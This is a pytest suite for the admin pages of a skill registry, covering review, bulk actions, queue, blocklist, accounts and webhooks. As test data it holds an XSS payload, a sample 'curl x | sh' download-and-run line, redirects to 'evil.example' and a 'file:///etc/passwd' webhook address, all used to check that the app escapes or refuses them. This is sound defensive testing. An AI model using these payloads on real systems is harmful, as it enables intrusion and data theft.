"""The admin area by real requests, without any script: every page shows what is true, every button does what the
command line does, and nothing dangerous happens without a reason and a confirmation."""

import html
import re
from typing import Any
from urllib.parse import urlencode

import msgspec
import pytest
import re2

from tests.store.test_policy import submitted
from tests.support.acting import approve, reject
from tests.support.damage import lose
from tests.support.dead_letters import list_dead_letters
from tests.support.envs import (
    make_submission,
    open_test_env,
    put_record,
    run_until_quiet,
    skill_files,
    submit_skill,
)
from tests.support.faults import HookedKV
from tests.support.html import Page
from tests.support.manual_clock import ManualClock
from tests.support.people import browser, signed_in, told
from tests.support.skills import OTHER_TEXT
from tests.support.system_reads import get_submission
from vskill_core.content import SkillFile, digest_of_files
from vskill_core.findings import (
    Confirmation,
    Finding,
    FindingCategory,
    FindingKind,
    JudgeReport,
    JudgeStatus,
    Severity,
    StaticReport,
    Verdict,
)
from vskill_platform.actions.operation.system import view_settings
from vskill_platform.domain import keys
from vskill_platform.domain.evidence import evidence_of
from vskill_platform.domain.packed_content import pack
from vskill_platform.domain.people.namespace import EVERYTHING, PUBLIC_ONLY
from vskill_platform.domain.skills.skill import VersionStatus
from vskill_platform.domain.skills.skill_changes import with_trust
from vskill_platform.domain.submissions.states import State
from vskill_platform.domain.submissions.submission import RecordedDecision, Submission
from vskill_platform.domain.verdicts.brake import HeldTakeDown
from vskill_platform.queue.control import current_pause
from vskill_platform.setting_facts import describe_settings
from vskill_platform.settings import Settings
from vskill_platform.store.operation.releases import note_release
from vskill_platform.store.people.accounts import Role, get_user
from vskill_platform.store.people.audit import list_audit
from vskill_platform.store.people.credentials import sign_in
from vskill_platform.store.recall.blocklist import list_blocks
from vskill_platform.store.review.reports import (
    ReportCategory,
    ReportStatus,
    file_report,
    get_report,
    list_reports,
)
from vskill_platform.store.skills.skills import get_skill, update_skill
from vskill_platform.store.stored_content import read_content
from vskill_platform.store.submissions.submission_lists import find_submissions
from vskill_platform.store.telling.webhooks import list_webhooks
from vskill_platform.store.verdicts.brake import hold_take_down, stop_rescans
from vskill_platform.store.verdicts.suppressions import suppressed_rules
from vskill_platform.web.app import ENDPOINTS, create_app
from vskill_scan.reading.manifest import read_manifest

pytestmark = pytest.mark.anyio

ATTACK = '"><script>alert(1)</script><img src=x onerror=alert(2)>'


@pytest.fixture
async def env(tmp_path):
    settings: dict[str, Any] = {
        "judge_url": "http://127.0.0.1:1/v1",
        "judge_model": "m",
        "judge_api_key": "sk-very-secret",
    }
    async with open_test_env("memory", tmp_path, clock=ManualClock(), judge=None, **settings) as opened:
        yield opened


@pytest.fixture
async def app(env):
    return create_app(env)


@pytest.fixture
async def ada(app, env):
    async with signed_in(app, env, "ada", Role.ADMIN) as person:
        yield person


@pytest.fixture
async def rob(app, env):
    async with signed_in(app, env, "rob", Role.REVIEWER) as person:
        yield person


def finding(file: str, line: int, **changes) -> Finding:
    found = Finding(
        "EX-001",
        Severity.CRITICAL,
        FindingCategory.EXFILTRATION,
        FindingKind.MALICE,
        file,
        line,
        excerpt="curl x | sh",
        why="It sends files away.",
    )
    return msgspec.structs.replace(found, **changes)


async def waiting(env, name: str = "doubtful", *, extra: tuple[SkillFile, ...] = (), found=()) -> Submission:
    """A submission that waits for a person, with its bytes, its scan and the judge's word."""
    script = SkillFile("run.sh", "100755", b"#!/bin/sh\necho hello\ncurl x | sh\n")
    files = skill_files(name, extra=(script, *extra))
    digest = digest_of_files(files)
    await env.blobs.put(digest, pack(files))
    report = StaticReport(env.scanner.ruleset, findings=(finding("run.sh", 3), *found))
    await env.kv.put(keys.scan(digest, report.ruleset), msgspec.json.encode(report))
    words = (Confirmation("EX-001@run.sh:3:0", confirmed=True, why="It really does."),)
    judge = JudgeReport(JudgeStatus.ANSWERED, Verdict.CONCERNS, 55, "Looks odd to me.", words, "m", "v1")
    await env.kv.put(keys.judge(digest, report.ruleset, "m", "v1"), msgspec.json.encode(judge))
    record = make_submission(
        name,
        state=State.NEEDS_REVIEW,
        at=env.kv.now(),
        digest=digest,
        upload=digest,
        evidence=evidence_of(digest, report, judge),
        decision=RecordedDecision("the judge is not sure", ("EX-001",)),
    )
    await put_record(env, record)
    return record


async def published(env, name: str = "tidy"):
    done = await submit_skill(name)
    await run_until_quiet(env)
    assert done.submission is not None
    record = await get_submission(done.submission.id)
    assert record.published is not None
    return await get_skill(record.published.removeprefix("skill:"))


# Every page.

PAGES = [
    one.path
    for one in ENDPOINTS
    if one.path.startswith("/admin") and one.method == "GET" and "{" not in one.path
]


@pytest.mark.parametrize("path", PAGES)
async def test_every_page_works_on_an_empty_store_and_names_itself_once(ada, path):
    page = await ada.get(path)
    assert page.status_code == 200, page.text[:500]
    assert page.headers["cache-control"] == "no-store"
    assert page.text.count("<h1>") == 1
    assert page.text.count('aria-current="page"') >= 1
    assert " style=" not in page.text and "<script>" not in page.text and "javascript:" not in page.text


async def test_the_page_about_storage_says_what_is_new_after_an_upgrade(ada, env):
    page = (await ada.get("/admin/storage")).text
    assert "New since" not in page
    await env.kv.put(keys.CONTROL_RELEASE, b'{"release":"0.2.0","since":1700000000000}')
    await note_release(env.kv)
    page = Page((await ada.get("/admin/storage")).text).text
    assert "New since 0.2.0" in page and "When you upgrade" in page and "In use since" in page


async def test_a_reviewer_sees_the_areas_of_reviewers_only(rob):
    page = (await rob.get("/admin")).text
    for link in ("/admin/review", "/admin/reports", "/admin/blocklist", "/admin/suppressions"):
        assert f'href="{link}"' in page
    for link in ("/admin/accounts", "/admin/settings", "/admin/audit", "/admin/queue"):
        assert f'href="{link}"' not in page


async def test_the_front_page_tells_what_waits_and_what_is_wrong(env, ada):
    await waiting(env)
    broken = make_submission("broken", state=State.TIER1_SCANNING, at=0, next_attempt_at=None)
    await put_record(env, broken)
    page = (await ada.get("/admin")).text
    assert "waiting for a reviewer" in page and f"sub:{broken.id}" in page


# Review.


async def test_the_evidence_stands_side_by_side(env, rob):
    record = await waiting(
        env,
        found=(finding("SKILL.md", 2, rule_id="CA-002", kind=FindingKind.CAPABILITY, severity=Severity.LOW),),
    )
    assert f"/admin/review/{record.id}" in (await rob.get("/admin/review")).text
    page = html.unescape((await rob.get(f"/admin/review/{record.id}")).text)
    for wanted in (
        "EX-001",
        "run.sh:3",
        "It sends files away.",
        "curl x | sh",
        "Looks odd to me.",
        "It really does.",
        "made by a test",
        record.digest or "",
        "1 capability (informational)",
        'id="L3"',
    ):
        assert wanted in page or wanted in _text(page), wanted
    other = _text((await rob.get(f"/admin/review/{record.id}?file=SKILL.md")).text)
    assert "A small skill called doubtful." in other


async def test_the_evidence_shows_what_changed_since_the_live_version(env, rob):
    skill = await published(env, "doubtful")
    await update_skill(
        skill.canonical,
        lambda one: with_trust(one, msgspec.structs.replace(one.trust, installs=340)),
    )
    record = await waiting(env)
    page = _text((await rob.get(f"/admin/review/{record.id}")).text)
    assert f"Changes since {skill.current_version}, which is live" in page
    newest = (
        f"Version 1.0.1 becomes the newest after {skill.current_version}; 340 installs get it as an update."
    )
    assert newest in page and f"Version {skill.current_version} stays live." in page
    assert "added: curl x | sh" in page and "new in this version" in page
    # Only what changed: a line that both have is shown as context or not at all, never as added.
    assert "added: ---" not in page


async def test_the_evidence_shows_every_line_of_a_block_that_a_lexer_would_replace(env, rob):
    await published(env, "doubtful")
    record = await waiting(env, extra=(SkillFile("notes.md", "100644", OTHER_TEXT),))
    answer = await rob.get(f"/admin/review/{record.id}", params={"file": "notes.md"})
    assert answer.status_code == 200
    page = _text(answer.text)
    for line in filter(None, OTHER_TEXT.decode().split("\n")):
        assert page.count(line) >= 2, "as the file, and as what was added"


async def test_hidden_characters_and_attacks_in_a_skill_are_shown_inert(env, ada):
    hostile = SkillFile("a'b<c>.md", "100644", f"{ATTACK}\n\u202eevil\u200b\x1b[31m\n".encode())
    marks = (finding("a'b<c>.md", 1, rule_id="EX-002", excerpt=ATTACK, why=ATTACK, severity=Severity.HIGH),)
    record = await waiting(env, extra=(hostile,), found=marks)
    await put_record(
        env, msgspec.structs.replace(record, repo_url=f"https://x/{ATTACK}", submitter=ATTACK, commit=ATTACK)
    )
    for path in (f"/admin/review/{record.id}", "/admin/review", "/admin/bulk?state=NEEDS_REVIEW", "/admin"):
        page = await ada.get(path)
        assert page.status_code == 200
        assert "<script>alert" not in page.text and "<img src=x" not in page.text
    page = (await ada.get(f"/admin/review/{record.id}", params={"file": "a'b<c>.md"})).text
    assert "<U+202E>evil<U+200B><U+001B>[31m" in _text(page)
    assert "<script>alert" not in page


async def test_AC_a_reviewer_approves_the_bytes_and_they_are_published(env, rob):
    record = await waiting(env)
    text = await rob.do(
        f"/admin/review/{record.id}/approve", reason="read it all", run=record.run, digest=record.digest
    )
    assert text == "doubtful is approved and will be published. Nothing else waits."
    await run_until_quiet(env)
    done = await get_submission(record.id)
    assert done.state is State.PUBLISHED
    approval = next(event for event in done.history if event.to is State.AUTO_APPROVED)
    assert (approval.actor, approval.reason) == ("admin:rob", "read it all")
    assert "approve" in [entry.action for entry in (await list_audit()).items]


async def test_a_rejection_has_its_reason_in_the_history(env, rob):
    record = await waiting(env)
    await rob.do(
        f"/admin/review/{record.id}/reject",
        reason="it downloads and runs code",
        run=record.run,
        digest=record.digest,
    )
    done = await get_submission(record.id)
    assert (done.state, done.history[-1].reason) == (State.REJECTED, "it downloads and runs code")


async def test_a_rejection_is_undone_on_the_page(env, rob):
    record = await waiting(env)
    page = f"/admin/review/{record.id}"
    await rob.do(f"{page}/reject", reason="no", run=record.run, digest=record.digest)
    assert "Undo: start a new run" in _text((await rob.get(page)).text)
    assert "run 2 is due now" in await rob.do(f"{page}/again", reason="a mistake")


async def test_the_review_shows_the_description_and_asks_the_author(env, rob):
    record = await waiting(env)
    page = f"/admin/review/{record.id}"
    text = _text((await rob.get(page)).text)
    description = read_manifest((await read_content(str(record.digest)))[0].data).description
    assert description and f"Description{description}" in text
    asked = {"reason": "Which files does it need?", "run": record.run, "digest": record.digest}
    assert "waits for its author" in await rob.do(f"{page}/request-change", **asked)
    for path, shown in (
        (page, "Withdraw the request"),
        ("/admin/review", "waits for its author"),
        (f"/submissions/{record.id}", "Waiting for its author"),
    ):
        text = _text((await rob.get(path)).text)
        assert shown in text, path
    assert "Which files does it need?" in text and "Answer the reviewer" in text
    assert "waits for a reviewer again" in await rob.do(f"{page}/withdraw-request", reason="I see")


@pytest.mark.parametrize("action", ["approve", "reject"])
async def test_a_decision_leads_to_the_next_that_waits(env, rob, action):
    records = []
    for name in ("old", "middle", "new"):
        records.append(await waiting(env, name))
        env.clock.advance(1_000)
    old, middle, new = records

    async def decide(record: Submission) -> str:
        path = f"/admin/review/{record.id}/{action}"
        answer = await rob.send(path, reason="seen", run=record.run, digest=record.digest)
        return str(answer.headers["location"])

    # From here down, then from the top.
    assert await decide(middle) == f"/admin/review/{new.id}"
    assert await decide(new) == f"/admin/review/{old.id}"
    assert await decide(old) == "/admin/review"


def _text(page: str) -> str:
    """Without the elements that colour it."""
    return html.unescape(re.sub("<[^>]*>", "", page))


async def test_those_ticked_are_previewed_and_then_decided_with_one_reason(env, rob):
    """Nothing is decided by the preview; what cannot be approved is said and left out."""
    first, second = await waiting(env, "first"), await waiting(env, "second")
    lost = make_submission("lost", state=State.NEEDS_REVIEW, at=env.kv.now(), digest="f" * 64)
    await put_record(env, lost)
    listed = Page((await rob.get("/admin/review")).text).all("input")
    ticks = [one["value"] for one in listed if one.get("name") == "tick"]
    assert set(ticks) == {f"{one.id} 1 {one.digest}" for one in (first, second, lost)}
    changed = f"{second.id} 1 {'e' * 64}"
    seen_before = _text((await rob.send("/admin/review/ticked", verb="approve", tick=[changed])).text)
    assert "1 of those ticked changed or no longer waits and is left alone" in seen_before
    assert "Nothing can be approved" in seen_before
    shown = await rob.send("/admin/review/ticked", verb="approve", tick=ticks)
    page = _text(shown.text)
    assert page.count("Version 1.0.0 is published as ") == 2
    assert "It is left out: " in page and "are missing" in page
    assert (await get_submission(first.id)).state is State.NEEDS_REVIEW
    items = [one["value"] for one in Page(shown.text).all("input") if one.get("name") == "item"]
    assert set(items) == {f"{one.id} 1 {one.digest}" for one in (first, second)}
    told = await rob.do("/admin/bulk", verb="approve", reason="both read", item=items, confirm="yes")
    assert told == "Applied to 2 submissions."
    assert (await get_submission(second.id)).history[-1].reason == "both read"
    for sent, complaint in (
        ({"verb": "approve"}, "Nothing is ticked"),
        ({"tick": lost.id}, "Nothing was chosen"),
    ):
        assert complaint in await rob.do("/admin/review/ticked", **sent)


async def test_the_rules_page_and_the_reference_tell_reviewers_how_rules_did(env, rob):
    for number in range(3):
        record = await waiting(env, f"fine-{number}")
        await rob.do(
            f"/admin/review/{record.id}/approve", reason="read it", run=record.run, digest=record.digest
        )
    for path in ("/admin/rules", "/docs/docs/reference/rules.md"):
        page = _text((await rob.get(path)).text)
        assert "Mostly wrong here: EX-001." in page and "agreed 0, disagreed 3" in page, path


@pytest.mark.parametrize("action", ["approve", "reject", "again"])
async def test_E7_no_decision_without_a_reason(env, rob, action):
    record = await waiting(env)
    text = await rob.do(
        f"/admin/review/{record.id}/{action}", reason="  ", run=record.run, digest=record.digest
    )
    assert "reason is needed" in text
    assert (await get_submission(record.id)).state is State.NEEDS_REVIEW


async def test_D7_a_second_decision_is_refused_and_told(env, rob, ada):
    record = await waiting(env)
    await rob.do(f"/admin/review/{record.id}/reject", reason="no", run=record.run, digest=record.digest)
    text = await ada.do(
        f"/admin/review/{record.id}/approve", reason="yes", run=record.run, digest=record.digest
    )
    assert "Only a submission that waits for a reviewer can be approved" in text
    assert (await get_submission(record.id)).state is State.REJECTED


async def test_only_the_bytes_that_were_looked_at_are_approved(env, rob):
    record = await waiting(env)
    text = await rob.do(f"/admin/review/{record.id}/approve", reason="yes", run=record.run, digest="0" * 64)
    assert "has changed since you opened it" in text
    assert (await get_submission(record.id)).state is State.NEEDS_REVIEW


async def test_a_refusal_leads_back_to_the_page_that_the_form_names_and_nowhere_else(env, rob):
    record = await waiting(env)
    here = f"/admin/review/{record.id}"
    for back, place in ((here, here), ("https://evil.example", "/admin/review"), ("//evil", "/admin/review")):
        answer = await rob.send(f"{here}/reject", reason="", back=back)
        assert answer.headers["location"] == place


async def test_a_rule_is_suppressed_for_this_content_and_counts_again(env, rob):
    record = await waiting(env)
    digest = str(record.digest)
    page = f"/admin/review/{record.id}"
    said = await rob.do(
        "/admin/suppressions/add", digest=digest, rule="EX-001", reason="an example", back=page
    )
    assert said == "EX-001 no longer counts for this content. It is being judged again."
    assert (await get_submission(record.id)).run == 2
    said = await rob.do("/admin/suppressions/add", digest=digest, rule="NOT-A-RULE", reason="x")
    assert "use one of EX-001" in said
    assert await suppressed_rules(digest) == {"EX-001"}
    assert "EX-001" in (await rob.get("/admin/suppressions")).text
    assert "suppressed" in (await rob.get(f"{page}?run=1")).text
    await rob.do("/admin/suppressions/remove", digest=digest, rule="EX-001", reason="no, it is real")
    assert await suppressed_rules(digest) == frozenset()


async def test_a_submission_whose_bytes_are_gone_still_has_its_page(env, rob):
    record = await waiting(env)
    await lose(env.blobs, str(record.digest))
    page = await rob.get(f"/admin/review/{record.id}")
    assert page.status_code == 200 and "are missing" in page.text
    bare = make_submission("bare", state=State.NEEDS_REVIEW)
    await put_record(env, bare)
    assert "Nothing was fetched" in (await rob.get(f"/admin/review/{bare.id}")).text


# The queue.


async def test_what_is_stuck_is_listed_and_requeued_one_by_one_and_all(env, ada):
    record = make_submission("slow", at=env.kv.now())
    await put_record(env, record)
    env.clock.advance(env.settings.stuck_threshold_ms + 1000)
    page = (await ada.get("/admin/queue")).text
    assert "slow" in page and record.id in page
    assert (await env.broker.depth()).ready == 0
    assert "slow: run 1" in await ada.do(
        f"/admin/review/{record.id}/again", reason="look at it", back="/admin/queue"
    )
    assert (await env.broker.depth()).ready == 1
    other = make_submission("other", at=env.kv.now() - 1)
    await put_record(env, other)
    assert "Missing messages sent: 1" in await ada.do("/admin/queue/requeue-all")
    assert (await env.broker.depth()).ready == 2


async def test_a_stuck_one_is_cancelled_only_with_a_confirmation(env, ada):
    record = make_submission("slow", at=env.kv.now())
    await put_record(env, record)
    assert f"/submissions/{record.id}/cancel" not in (await ada.get("/admin/queue")).text
    env.clock.advance(env.settings.stuck_threshold_ms + 1000)
    form = f"/submissions/{record.id}/cancel"
    assert form in (await ada.get("/admin/queue")).text
    assert "tick the box" in await ada.do(form, reason="why", back="/admin/queue")
    assert (await get_submission(record.id)).state is State.RECEIVED
    answer = await ada.send(form, reason="why", confirm="yes", back="/admin/queue")
    assert answer.headers["location"].startswith("/admin/queue")
    assert (await get_submission(record.id)).state is State.DEQUEUED


async def test_B3_a_pause_carries_its_end_and_can_be_ended(env, ada):
    assert "paused for 5 min" in await ada.do("/admin/queue/pause", minutes="5", reason="maintenance")
    pause = await current_pause()
    assert pause is not None and (pause.until - pause.at, pause.by) == (300_000, "admin:ada")
    assert "paused" in await ada.do("/admin/queue/requeue-all")
    assert "is running again" in await ada.do("/admin/queue/resume")
    assert await current_pause() is None
    assert {"pause", "resume"} <= {entry.action for entry in (await list_audit()).items}


@pytest.mark.parametrize("minutes", ["0", "-1", "x", "99999999", ""])
async def test_a_pause_without_a_sensible_end_is_refused(env, ada, minutes):
    await ada.do("/admin/queue/pause", minutes=minutes, reason="why")
    assert await current_pause() is None


async def dead_letter(env) -> int:
    done = await submit_skill("letter")
    assert done.submission is not None
    (batch,) = await env.broker.receive(3, 0, 1)
    await batch.messages[0].dead_letter("nobody can read this <b>")
    return (await list_dead_letters())[0].id


async def test_dead_letters_are_replayed_or_discarded(env, ada):
    letter = await dead_letter(env)
    page = (await ada.get("/admin/queue")).text
    assert "nobody can read this &lt;b&gt;" in page
    assert "tick the box" in await ada.do("/admin/queue/discard", letter_id=str(letter))
    assert "Replayed" in await ada.do("/admin/queue/replay", letter_id=str(letter))
    assert await list_dead_letters() == []
    assert "no dead letter" in await ada.do("/admin/queue/replay", letter_id=str(letter))


async def test_a_discarded_letter_is_gone(env, ada):
    letter = await dead_letter(env)
    assert "was discarded" in await ada.do("/admin/queue/discard", letter_id=str(letter), confirm="yes")
    assert await list_dead_letters() == []


async def test_an_admin_sees_what_new_rules_would_take_down_and_lets_them_go_on(env, ada):
    held = HeldTakeDown("acme/tools/pdf", "d" * 64, "1.0.0", "failed the static scan", 1)
    await env.kv.commit([hold_take_down("rules-2", held)])
    await stop_rescans("rules-2", 6, 10)
    page = (await ada.get("/admin/jobs")).text
    assert "would take down 6 of 10 live skills" in page and "acme/tools/pdf" in page
    assert "rules-2 would take down 6 of 10" in (await ada.get("/admin")).text
    done = await ada.do("/admin/jobs/continue-rescans", ruleset="rules-2", reason="looked", confirm="yes")
    assert "The rules rules-2 go on" in done
    assert "New rules stopped" not in (await ada.get("/admin/jobs")).text


async def test_a_job_runs_now_and_its_success_is_shown(env, ada):
    assert "has run" in await ada.do("/admin/jobs/run", job="recovery")
    page = (await ada.get("/admin/jobs")).text
    row = page.split("<code>recovery</code>")[1].split("</tr>")[0]
    assert "OK" in row
    assert "no job" in await ada.do("/admin/jobs/run", job="<x>")
    await env.kv.put(keys.job("alerts"), b'{"name": "alerts", "state": {"firing": "{"}}')
    page = await ada.do("/admin/jobs/run", job="alerts")
    assert "The job alerts failed: " in page and "has run" not in page


# Many at once.


async def test_a_bulk_action_shows_what_it_would_do_changes_nothing_and_then_does_it(env, ada):
    records = [await waiting(env, f"many-{number}") for number in range(3)]
    await waiting(env, "other")
    page = (await ada.get("/admin/bulk?state=NEEDS_REVIEW&place=many-&hours=&verb=reject")).text
    assert "Reject: 3 submissions" in page
    assert {(await get_submission(one.id)).state for one in records} == {State.NEEDS_REVIEW}
    items = re2.findall('name="item" value="([^"]*)"', page)
    assert sorted(items) == sorted(f"{one.id} 1 {one.digest}" for one in records)
    form = {"verb": "reject", "reason": "spam", "item": items}
    assert "tick the box" in await ada.do("/admin/bulk", **form)
    assert {(await get_submission(one.id)).state for one in records} == {State.NEEDS_REVIEW}
    assert await ada.do("/admin/bulk", confirm="yes", **form) == "Applied to 3 submissions."
    for one in records:
        done = await get_submission(one.id)
        assert (done.state, done.history[-1].reason) == (State.REJECTED, "spam")
    assert "bulk reject" in [entry.action for entry in (await list_audit()).items]
    again = await ada.do("/admin/bulk", confirm="yes", **form)
    assert again.startswith("Applied to 0 submissions. 3 were skipped: ")


async def test_many_are_approved_at_once(env, ada):
    records = [await waiting(env, f"many-{number}") for number in range(2)]
    page = (await ada.get("/admin/bulk?state=NEEDS_REVIEW&hours=&place=&why=&verb=approve")).text
    assert "Approve and publish: 2 submissions" in page
    items = re2.findall('name="item" value="([^"]*)"', page)
    await ada.do("/admin/bulk", verb="approve", reason="all read", item=items, confirm="yes")
    assert {(await get_submission(one.id)).state for one in records} == {State.AUTO_APPROVED}


async def test_a_bulk_filter_finds_the_words_that_the_queue_shows(env, ada):
    await published(env)
    (shown,) = (await find_submissions(states=[State.PUBLISHED], audiences=EVERYTHING)).items
    assert shown.why != shown.history[-1].reason
    found = await ada.get(f"/admin/bulk?{urlencode({'state': 'PUBLISHED', 'why': shown.why})}")
    assert "Run again: 1 submission<" in found.text
    assert html.escape(shown.why) in found.text.split("<tbody>")[1]


@pytest.mark.parametrize(
    ("state", "action", "expected"),
    [("REJECTED", "cancel", 0), ("REJECTED", "again", 1), ("NEEDS_REVIEW", "cancel", 1)],
)
async def test_a_bulk_action_counts_only_what_it_can_be_done_to(env, ada, state, action, expected):
    await put_record(env, make_submission("one", state=State(state)))
    page = (await ada.get(f"/admin/bulk?state={state}&verb={action}")).text
    assert f": {expected} submission" in page


@pytest.mark.parametrize(("field", "value"), [("verb", "explode"), ("item", "sub_x many"), ("reason", "")])
async def test_a_bulk_form_with_what_no_page_offers_is_refused_by_field(env, ada, field, value):
    form = {"verb": "again", "item": "sub_x 1", "reason": "why", "confirm": "yes"}
    assert field in await ada.do("/admin/bulk", **{**form, field: value})


async def test_E4_a_bulk_filter_that_does_not_exist_is_a_400(ada):
    assert (await ada.get("/admin/bulk?stat=REJECTED")).status_code == 400
    assert (await ada.get("/admin/bulk?state=active")).status_code == 400


# Blocklist, reports, skills.


async def test_a_block_needs_a_confirmation_takes_effect_and_is_lifted(env, rob):
    skill = await published(env)
    form = {"kind": "name", "target": "Tidy", "severity": "high", "reason": "steals"}
    assert "tick the box" in await rob.do("/admin/blocklist/add", **form)
    assert await list_blocks() == []
    assert await rob.do("/admin/blocklist/add", confirm="yes", **form) == (
        "Blocked: name tidy. It hits 1 submission and 1 published version."
    )
    assert (await get_skill(skill.canonical)).current_version is None
    (entry,) = await list_blocks()
    assert entry.discovered_by == "admin:rob"
    lifted = await rob.do(
        "/admin/blocklist/lift", kind="name", target="tidy", reason="a mistake", confirm="yes"
    )
    assert "No longer blocked" in lifted and skill.canonical in lifted
    assert (await get_skill(skill.canonical)).current_version is not None
    assert await list_blocks() == []
    assert "no blocklist entry for the name tidy" in await rob.do(
        "/admin/blocklist/lift", kind="name", target="tidy", reason="x", confirm="yes"
    )


@pytest.mark.parametrize(
    ("kind", "target"),
    [("digest", "xyz"), ("place", "not an address"), ("name", " "), ("name", "tydi"), ("galaxy", "x")],
)
async def test_a_target_that_makes_no_sense_is_told(env, rob, kind, target):
    text = await rob.do(
        "/admin/blocklist/add", kind=kind, target=target, severity="high", reason="x", confirm="yes"
    )
    assert text and "Blocked" not in text
    assert await list_blocks() == []


async def test_reports_are_upheld_with_a_block_or_dismissed(env, rob):
    skill = await published(env)
    first = (
        await file_report(
            skill.canonical,
            reporter="user:a",
            reason=ATTACK,
            category=ReportCategory.MALWARE,
            audiences=PUBLIC_ONLY,
        )
    ).report
    second = (
        await file_report(skill.canonical, reporter="user:b", reason="dislike", audiences=PUBLIC_ONLY)
    ).report
    page = (await rob.get("/admin/reports")).text
    assert "<script>alert" not in page and "dislike" in page
    await rob.do(f"/admin/reports/{second.id}/dismiss", reason="nothing wrong")
    assert (await get_report(second.id)).status is ReportStatus.DISMISSED
    assert "tick the box" in await rob.do(f"/admin/reports/{first.id}/uphold", reason="true", block="place")
    assert "is blocked" in await rob.do(
        f"/admin/reports/{first.id}/uphold", reason="true", block="place", confirm="yes"
    )
    assert (await get_skill(skill.canonical)).current_version is None
    assert (await list_reports()).items == ()
    assert "upheld" in await rob.do(f"/admin/reports/{first.id}/dismiss", reason="again")
    for status in ("upheld", "dismissed", "all"):
        assert (await rob.get(f"/admin/reports?status={status}")).status_code == 200


async def test_a_version_is_taken_down_and_restored(env, ada):
    skill = await published(env)
    form = {"back": "/admin/skills", "version": str(skill.current_version), "reason": "look into it"}
    assert "tick the box" in await ada.do(f"/skills/{skill.canonical}/take-down", **form)
    await ada.do(f"/skills/{skill.canonical}/take-down", confirm="yes", **form)
    down = await get_skill(skill.canonical)
    assert (down.versions[0].status, down.versions[0].by) == (VersionStatus.TAKEN_DOWN, "admin:ada")
    assert "taken_down" in (await ada.get("/admin/skills?q=tidy")).text
    await ada.do(f"/skills/{skill.canonical}/restore", **form)
    assert (await get_skill(skill.canonical)).current_version == skill.current_version


async def test_a_version_that_is_live_below_many_withdrawn_ones_can_be_taken_down(env, ada):
    skill = await published(env)
    (first,) = skill.versions
    later = [
        msgspec.structs.replace(first, number=f"2.0.{number}", status=VersionStatus.YANKED)
        for number in range(12)
    ]
    stored = msgspec.structs.replace(skill, versions=(first, *later))
    await env.kv.put(keys.skill(skill.canonical), msgspec.json.encode(stored))
    page = (await ada.get("/admin/skills?q=tidy")).text
    assert f"Take {first.number} down" not in page and "Take every version down" in page
    await ada.do(
        f"/skills/{skill.canonical}/take-down", back="/admin/skills", reason="look into it", confirm="yes"
    )
    assert (await get_skill(skill.canonical)).versions[0].status is VersionStatus.TAKEN_DOWN
    assert "Take every version down" not in (await ada.get("/admin/skills?q=tidy")).text


# Accounts and tokens.


async def test_an_account_is_made_with_a_password_that_is_shown_once_and_works(env, ada):
    answer = await ada.send("/admin/accounts", name="Rita", role="reviewer", reason="joined us")
    assert answer.status_code == 201 and answer.headers["cache-control"] == "no-store"
    shown = answer.text.split('class="command__text">')[1].split("</code>")[0]
    password = html.unescape(re.sub("<.*?>", "", shown))
    assert (await sign_in("rita", password, "192.0.2.1")).role is Role.REVIEWER
    assert password not in (await ada.get("/admin/accounts")).text
    assert "already" in await ada.do("/admin/accounts", name="rita", role="author", reason="again")


async def test_roles_locks_and_passwords_are_changed_by_an_admin(env, ada, rob):
    assert (
        await ada.do("/admin/accounts/rob/role", role="author", reason="left the team")
        == "rob is now author."
    )
    assert (await rob.get("/admin")).status_code == 403, "at once, not at the next sign-in"
    assert "tick the box" in await ada.do("/admin/accounts/rob/disable", reason="why")
    await ada.do("/admin/accounts/rob/disable", reason="why", confirm="yes")
    assert (await get_user("rob")).disabled
    assert (await rob.get("/account")).status_code == 303
    await ada.do("/admin/accounts/rob/enable", reason="back")
    answer = await ada.send("/admin/accounts/rob/password", reason="forgot it", confirm="yes")
    assert answer.status_code == 201
    assert "signed out" in await ada.do("/admin/accounts/rob/sign-out", reason="lost a laptop", confirm="yes")


async def test_nobody_locks_themselves_out_or_removes_the_last_admin(ada):
    assert "your own account" in await ada.do("/admin/accounts/ada/disable", reason="oops", confirm="yes")
    assert "only admin" in await ada.do("/admin/accounts/ada/role", role="author", reason="oops")
    assert "no account" in await ada.do("/admin/accounts/nobody/role", role="author", reason="x")


async def test_an_admin_revokes_anybodys_token(env, ada, rob):
    await rob.send("/account/tokens", name="laptop", scopes="read", days="5")
    page = (await ada.get("/admin/tokens")).text
    assert "laptop" in page and "vsk_" not in page
    token = page.split('name="token_id" value="')[1].split('"')[0]
    assert "revoked" in await ada.do("/admin/tokens/revoke", account="rob", token_id=token, reason="leaked")
    assert (await get_user("rob")).tokens == ()


# The installation.


async def test_a_webhooks_secret_is_shown_once(env, ada):
    answer = await ada.send(
        "/admin/webhooks/add", url="https://hooks.example.org/x", events=["skill.published"]
    )
    (hook,) = await list_webhooks()
    assert answer.status_code == 201 and hook.secret in html.unescape(answer.text)
    assert hook.events == ("skill.published",)
    page = await ada.get("/admin/webhooks")
    assert hook.secret not in html.unescape(page.text)
    assert "give an address such as" in await ada.do(
        "/admin/webhooks/add", url="file:///etc/passwd", events="skill.published"
    )
    assert "cannot be 'none'" in await ada.do("/admin/webhooks/add", url="https://a.example", events="none")
    await ada.do("/admin/webhooks/remove", webhook_id=hook.id, confirm="yes")
    assert await list_webhooks() == []


async def test_a_policy_is_checked_and_set_and_a_refused_text_stays_in_the_form(app, ada):
    first = await ada.get("/admin/policy")
    assert first.status_code == 200 and "extends: open" in first.text
    digest = first.text.split('name="replaces" value="')[1].split('"')[0]
    bad = "rules: [{name: mine, when: owner.nam, then: note}]"
    for path in ("/admin/policy/check", "/admin/policy"):
        refused = await ada.send(path, text=bad, reason="a test", replaces=digest)
        assert "Line 1, column 28" in refused.text and bad in html.unescape(refused.text)
    good = 'rules: [{name: mine, when: skill.first, then: refuse, say: "no & never"}]'
    checked = await ada.send("/admin/policy/check", text=good)
    assert "It is valid, and not set yet." in checked.text and "skill.first" in checked.text
    assert "skill.first" not in (await ada.get("/policy")).text
    assert "is set" in await ada.do("/admin/policy", text=good, reason="a test", replaces=digest)
    late = await ada.send("/admin/policy", text="rules: []", reason="a test", replaces=digest)
    assert "Another policy has been set since" in late.text
    async with browser(app) as anybody:
        shown = html.unescape((await anybody.get("/policy")).text)
    assert good in shown and "admin:ada: a test" in shown


async def test_a_policy_is_tried_on_what_was_decided_before_and_nothing_changes(app, ada, env):
    done = await submitted(env, "calm")
    before = (await ada.get("/admin/policy")).text.split('name="replaces" value="')[1].split('"')[0]
    held = 'rules: [{name: hold-all, when: "true", then: review, say: "every <one>"}]'
    tried = await ada.send("/admin/policy/try", text=held, since="30d")
    assert "Of 1 decision, 1 would be held that the policy in force publishes." in tried.text
